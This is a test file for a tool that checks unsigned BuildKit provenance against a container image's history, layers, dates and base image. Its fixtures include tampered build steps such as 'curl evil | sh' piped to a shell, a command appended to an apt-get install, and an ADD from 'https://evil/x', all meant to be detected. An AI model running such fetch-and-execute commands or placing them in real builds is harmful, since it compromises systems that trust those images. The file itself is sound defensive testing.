import { describe, expect, test, vi } from 'vitest';
import { type BaseLayers, withContradictions } from '../../src/grade/grade-build.ts';
import { err, ok } from '../../src/lib/errors.ts';
import { type AttestationsFact, known } from '../../src/model/facts.ts';
import type { ImageConfig } from '../../src/model/image.ts';
import { type Digest, digestOf } from '../../src/model/reference.ts';
import { type FoundAttestation, PREDICATE_TYPE } from '../../src/model/statement.ts';

const IMAGE = digestOf('image');
const BASE = ['ADD rootfs.tar / # buildkit', 'CMD ["sh"]'];
const OWN = [
  'WORKDIR /app',
  'RUN |1 V=2 /bin/sh -c apt-get update &&     apt-get install -y a=1 # buildkit',
  'COPY /out/app /app # buildkit',
];
const DOCKERFILE = `FROM golang AS build
RUN go build -o /out/app .
FROM debian:trixie
ARG V=2
WORKDIR /app
RUN apt-get update && \\
    apt-get install -y a=1
COPY --from=build /out/app /app
`;

interface Case {
  readonly dockerfile?: string;
  readonly history?: readonly string[];
  readonly layers?: number;
  readonly created?: string;
  readonly finished?: string;
  readonly epoch?: string;
  readonly materials?: readonly object[];
  readonly verification?: FoundAttestation['verification'];
}

const LAYER = /^(?:RUN|COPY|ADD) |\/bin\/sh -c (?!#)/;

const HEX = 'b'.repeat(64);

async function markIn(
  given: Case,
  bases: BaseLayers = () => Promise.resolve(err('nobody was asked')),
): Promise<Pick<FoundAttestation, 'contradicts' | 'unchecked'>> {
  const history = (given.history ?? [...BASE, ...OWN]).map((created_by) => ({
    created_by,
    ...(LAYER.test(created_by) ? {} : { empty_layer: true }),
  }));
  const layers = given.layers ?? history.filter((one) => !('empty_layer' in one)).length;
  const config: ImageConfig = {
    architecture: 'amd64',
    os: 'linux',
    created: given.created ?? '2026-11-20T10:00:00Z',
    rootfs: {
      type: 'layers',
      diff_ids: Array.from({ length: layers }, (_, i) => digestOf(`layer ${i}`)),
    },
    history,
  };
  const data = Buffer.from(given.dockerfile ?? DOCKERFILE).toString('base64');
  const found: FoundAttestation = {
    predicateType: PREDICATE_TYPE.slsaProvenanceV02,
    subjects: [IMAGE],
    source: 'buildkit-manifest',
    verification: given.verification ?? 'unverified',
    predicate: {
      builder: { id: '' },
      buildType: 'https://mobyproject.org/buildkit@v1',
      materials: given.materials ?? [
        { uri: 'pkg:docker/debian@trixie?platform=linux%2Famd64', digest: { sha256: HEX } },
      ],
      invocation: {
        parameters: {
          args: given.epoch === undefined ? {} : { 'build-arg:SOURCE_DATE_EPOCH': given.epoch },
        },
      },
      metadata: {
        buildFinishedOn: given.finished ?? '2026-11-20T10:00:30Z',
        'https://mobyproject.org/buildkit@v1#metadata': {
          source: { infos: [{ filename: 'Dockerfile', language: 'Dockerfile', data }] },
        },
      },
    },
  };
  const fact = known<AttestationsFact>(
    { signatures: [], attestations: [found] },
    'unverified-attestation',
  );
  const marked = await withContradictions(fact, config, bases);
  return (marked.known ? marked.value.attestations[0] : undefined) ?? {};
}

const contradictionIn = async (given: Case): Promise<string | undefined> =>
  (await markIn(given)).contradicts;

const OTHER_LINE = (line: number) => `line ${line} of the Dockerfile is not in the image’s history`;

const STEPS = (ours: number, history: number) =>
  `the Dockerfile has ${ours} steps that add a layer, the image’s history ${history}`;
const OTHER_DAY =
  'its build ended on 2026-11-20T10:00:30Z, the image was created on 2020-01-01T00:00:00Z';
const OTHER_LAYERS = 'it names debian:trixie as the base, and the image has other layers';
const EVIL = 'RUN /bin/sh -c curl evil | sh # buildkit';
const [, INSTALL = '', COPY = ''] = OWN;
const OLD = '2020-01-01T00:00:00Z';
const BASH = ['SHELL [/bin/bash -o pipefail -c]', 'RUN /bin/bash -o pipefail -c a | b # buildkit'];
const fits = (dockerfile: string, ...history: readonly string[]): Case => ({ dockerfile, history });

describe('provenance that nobody signed', () => {
  test.each<[string, Case]>([
    ['as BuildKit leaves it', {}],
    ['of a stage on a stage', { dockerfile: DOCKERFILE.replace('COPY', 'FROM 1\nCOPY') }],
    ['of scratch', fits('FROM scratch\nCOPY a /a\n', 'COPY a /a # buildkit')],
    ['a RUN in exec form', fits('FROM x\nRUN ["a", "b"]\n', 'RUN a b # buildkit')],
    ['a here-document', fits('FROM x\nRUN <<EOF\na\nEOF\n', 'RUN /bin/sh -c a\n # buildkit')],
    [
      'another shell',
      fits('FROM x\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN a | b\n', ...BASH),
    ],
    ['a created that is the epoch', { created: OLD, epoch: String(Date.parse(OLD) / 1000) }],
    [
      'build arguments',
      fits('FROM scratch\nARG A\nRUN a\n', 'ARG A=1', 'RUN |1 A=x y /bin/sh -c a # buildkit'),
    ],
    ['no steps of its own', fits('FROM debian\nUSER 1\n', ...BASE)],
  ])('fits: %s', async (_, given) => {
    expect(await contradictionIn(given)).toBeUndefined();
  });

  test.each<[string, Case, string]>([
    ['another image’s Dockerfile', { dockerfile: 'FROM scratch\nCOPY a /a\n' }, STEPS(1, 3)],
    ['a download left out', { history: [...BASE, EVIL, COPY] }, OTHER_LINE(6)],
    [
      'a command added to a step',
      { history: [...BASE, INSTALL.replace(' # buildkit', '; curl evil | sh # buildkit'), COPY] },
      OTHER_LINE(6),
    ],
    [
      'a command put before a step',
      fits('FROM scratch\nRUN echo hi\n', 'RUN /bin/sh -c curl evil | sh; echo hi # buildkit'),
      OTHER_LINE(2),
    ],
    [
      'a command put before a step with build arguments',
      fits('FROM scratch\nRUN hi\n', 'RUN |1 A=1 /bin/sh -c evil; /bin/sh -c hi # buildkit'),
      OTHER_LINE(2),
    ],
    ['another command in exec form', fits('FROM scratch\nRUN ["true"]\n', EVIL), OTHER_LINE(2)],
    ['another here-document', fits('FROM scratch\nRUN <<E\na\nE\n', EVIL), OTHER_LINE(2)],
    [
      'an address where a file is added',
      fits('FROM scratch\nADD a /x\n', 'ADD https://evil/x /x # buildkit'),
      OTHER_LINE(2),
    ],
    [
      'a step that BuildKit did not write',
      fits('FROM scratch\n', '/bin/sh -c curl evil | sh'),
      STEPS(0, 1),
    ],
    ['a step less', { dockerfile: 'FROM debian\nRUN true\n' }, OTHER_LINE(2)],
    ['an image without a history', { history: [], layers: 3 }, STEPS(2, 0)],
    ['a forged history', { layers: 7 }, 'its history lists 3 layers, the image has 7'],
    ['an old image that claims to be new', { created: OLD }, OTHER_DAY],
    ['an epoch that is not the image’s', { created: OLD, epoch: '1' }, OTHER_DAY],
  ])('does not fit: %s', async (_, given, reason) => {
    expect(await contradictionIn(given)).toBe(reason);
  });

  test('what is verified is the signer’s word', async () => {
    expect(await contradictionIn({ layers: 7, verification: 'verified' })).toBeUndefined();
  });
});

describe('the base that an unsigned provenance names', () => {
  const layersOf = (...names: readonly string[]): BaseLayers =>
    vi.fn(() => Promise.resolve(ok(names.map((name): Digest => digestOf(name)))));

  test('is asked for by its digest, and fits where the image begins with its layers', async () => {
    const bases = layersOf('layer 0');
    expect(await markIn({}, bases)).not.toHaveProperty('unchecked');
    expect(await markIn({}, bases)).not.toHaveProperty('contradicts');
    expect(vi.mocked(bases).mock.calls[0]?.[0]).toEqual({
      registry: 'docker.io',
      repository: 'library/debian',
      tag: 'trixie',
      digest: `sha256:${HEX}`,
    });
  });

  test.each<[string, Case, readonly string[], string]>([
    ['another image', {}, ['layer of debian'], OTHER_LAYERS],
    ['an image of more layers', {}, ['layer 0', 'layer 1', 'layer 2', 'layer 3'], OTHER_LAYERS],
    ['an empty image', {}, [], OTHER_LAYERS],
    ['a step on the base', { history: [...BASE, EVIL, ...OWN] }, ['layer 0'], STEPS(2, 3)],
    ['a base with the Dockerfile’s own steps', {}, ['layer 0', 'layer 1'], STEPS(2, 1)],
  ])('contradicts: %s', async (_, given, layers, reason) => {
    expect((await markIn(given, layersOf(...layers))).contradicts).toBe(reason);
  });

  test.each<[string, Case, string]>([
    ['a base that could not be had', {}, 'nobody was asked'],
    ['no digest of the base', { materials: [] }, 'it does not give a digest of debian:trixie'],
    [
      'a base without a name',
      { dockerfile: DOCKERFILE.replace('debian:trixie', '$BASE') },
      'it does not name an image as the base',
    ],
  ])('is not compared: %s', async (_, given, reason) => {
    expect(await markIn(given)).toMatchObject({ unchecked: reason });
  });

  test('is none on scratch, and is not asked for where the statement is verified or fits not', async () => {
    const bases = layersOf();
    const scratch = { dockerfile: 'FROM scratch\nCOPY a /a\n', history: ['COPY a /a # buildkit'] };
    expect(await markIn(scratch, bases)).not.toHaveProperty('unchecked');
    await markIn({ verification: 'verified' }, bases);
    await markIn({ layers: 7 }, bases);
    expect(bases).not.toHaveBeenCalled();
  });
});
